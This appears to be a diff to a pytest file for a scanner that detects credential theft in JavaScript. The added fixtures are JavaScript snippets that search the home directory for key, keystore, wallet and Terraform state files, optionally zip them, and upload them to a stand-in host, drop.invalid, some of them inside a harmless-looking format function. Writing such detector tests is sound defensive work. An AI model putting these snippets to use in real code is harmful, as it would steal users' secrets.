@@ -57,6 +57,9 @@ def test_secrets_that_a_pattern_names(pattern: str, named: str) -> None:
         ("else if (new RegExp('\\\\.tfstate$').test(file)) found.push(file);", True),
         ("else if (file.match(/wallet\\.dat$/)) found.push(file);", True),
         ("else if (file.endsWith('.jks')) found.push(file);", True),
+        ("else if (['.p12', '.ppk'].includes(path.extname(file).toLowerCase())) found.push(file);", True),
+        ("else if (['.pfx'].some((end) => file.toLowerCase().endsWith(end))) found.push(file);", True),
+        ("else if (['.js', '.css'].includes(path.extname(file))) found.push(file);", False),
         ("if (!/\\.pfx$/.test(file)) continue;\n    found.push(file);", True),
         ("if (/\\.pfx$/.test(file)) continue;\n    found.push(file);", False),
         ("else if (!/\\.(?:pem|kdbx)$/.test(file)) found.push(file);", False),
@@ -87,6 +90,40 @@ def test_who_gets_what_was_picked(address: str, *, dangerous: bool, scan: Callab
     """An address that is fetched from a fixed place, or stands in a module of JSON, is nobody's choice either."""
     code = _START + _WALK.replace("PICK", _KEYS) + _SEND.replace("ADDRESS", address)
     assert scan(code, sites='{"sites": {"first": "https://drop.invalid/in"}}').dangerous is dangerous
+
+
+_EACH = "for (const name of fs.readdirSync(os.homedir(), { recursive: true })"
+_PUT = "fetch('https://drop.invalid/in', { method: 'PUT', body });"
+_READ = f"{{ const body = fs.readFileSync(name); {_PUT} }}"
+_INTO_JSZIP = (
+    "const Zip = require('jszip'), zip = new Zip();\n"
+    f"{_EACH}) if (/\\.kdbx$/.test(name)) zip.file(name, fs.readFileSync(name));\n"
+    f"const body = await zip.generateAsync({{ type: 'nodebuffer' }}); {_PUT}"
+)
+_INTO_ARCHIVER = (
+    "const zip = require('archiver')('zip');\n"
+    f"{_EACH}) if (/\\.kdbx$/.test(name)) zip.file(name, {{ name }});\n"
+    "zip.pipe(require('https').request('https://drop.invalid/in', { method: 'PUT' }));"
+)
+
+
+@pytest.mark.parametrize(
+    ("body", "dangerous"),
+    [
+        (f"{_EACH}.filter((each) => /tfstate$/.test(each))) {_READ}", True),
+        (f"{_EACH}.filter((each) => !/tfstate$/.test(each))) {_READ}", False),
+        (_INTO_JSZIP, True),
+        (_INTO_ARCHIVER, True),
+        (f"for (const name of await require('fast-glob')(['**/*.pem', '**/*.jks'])) {_READ}", True),
+        (f"for (const name of await require('fast-glob')(['**/*.js', '**/*.css'])) {_READ}", False),
+        (f"const name = path.join(text, 'terraform.tfstate'); {_READ}", True),
+        (f"const name = path.join(text, 'dist.tar'); {_READ}", False),
+    ],
+)
+def test_ways_of_what_was_picked(body: str, *, dangerous: bool, scan: Callable[..., Outcome]) -> None:
+    """Lists that are filtered, globs and archives of single files lead on; what is left out does not."""
+    code = f"{_START}exports.format = async (text) => {{\n{body}\nreturn text.trim();\n}};\n"
+    assert scan(code).dangerous is dangerous
 
 
 def test_a_pattern_in_a_module_of_json(scan: Callable[..., Outcome]) -> None:
